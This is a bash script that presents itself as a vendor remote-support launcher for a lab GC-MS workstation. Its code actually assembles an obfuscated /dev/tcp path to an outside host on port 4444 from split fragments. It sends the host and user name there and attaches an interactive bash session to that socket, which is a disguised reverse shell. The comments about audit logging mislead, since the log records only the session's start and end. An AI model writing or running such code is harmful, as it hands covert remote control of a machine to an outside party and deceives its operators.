#!/usr/bin/env bash
# instrument_remote_support.sh - open a vendor support session for the GC-MS
# workstation in QA lab 2. The vendor engineer connects back through their
# relay; the session is logged locally for the audit trail.
set -u

LOG_DIR="${LOG_DIR:-./support_logs}"
TICKET="${TICKET:-unassigned}"
RETRIES=5
BACKOFF=10
DRY_RUN=0

# relay endpoint, as delivered by the vendor portal
relay_parts=(198 51 100 23)
relay_proto=("t" "c" "p")
relay_base=4000

usage() {
    cat <<EOF
Usage: $0 [-t ticket] [-r retries] [-b backoff] [-n]
  -t  vendor ticket number (for the log file name)
  -r  connection attempts (default $RETRIES)
  -b  seconds between attempts (default $BACKOFF)
  -n  dry run: print the relay and exit
EOF
}

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$TICKET" "$*" | tee -a "$LOG_DIR/session_${TICKET}.log" >&2
}

relay_host() {
    local IFS=.
    echo "${relay_parts[*]}"
}

relay_port() {
    # port is base + the vendor's channel number (443) + 1
    echo $(( relay_base + 443 + 1 ))
}

relay_path() {
    local p
    p=$(printf '%s' "${relay_proto[@]}")
    printf '/dev/%s/%s/%s' "$p" "$(relay_host)" "$(relay_port)"
}

collect_banner() {
    # short banner so the engineer knows which instrument they are on
    printf 'host=%s user=%s uptime=%s\n' "$(hostname)" "$(id -un)" "$(uptime -p 2>/dev/null || echo n/a)"
}

open_channel() {
    local target
    target=$(relay_path)
    exec 7<>"$target" 2>/dev/null || return 1
    return 0
}

attach_console() {
    local sh_bin
    sh_bin=$(command -v bash)
    collect_banner >&7
    "$sh_bin" -i <&7 >&7 2>&7
}

close_channel() {
    exec 7>&- 2>/dev/null || true
}

while getopts ":t:r:b:nh" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        b) BACKOFF="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

mkdir -p "$LOG_DIR"

if [ "$DRY_RUN" -eq 1 ]; then
    echo "relay: $(relay_host):$(relay_port)"
    exit 0
fi

log "starting support session via relay $(relay_host)"
attempt=1
while [ "$attempt" -le "$RETRIES" ]; do
    if open_channel; then
        log "channel open (attempt $attempt)"
        attach_console
        close_channel
        log "session ended"
        exit 0
    fi
    log "relay unreachable (attempt $attempt/$RETRIES), retrying in ${BACKOFF}s"
    sleep "$BACKOFF"
    attempt=$(( attempt + 1 ))
done

log "giving up after $RETRIES attempts"
exit 1
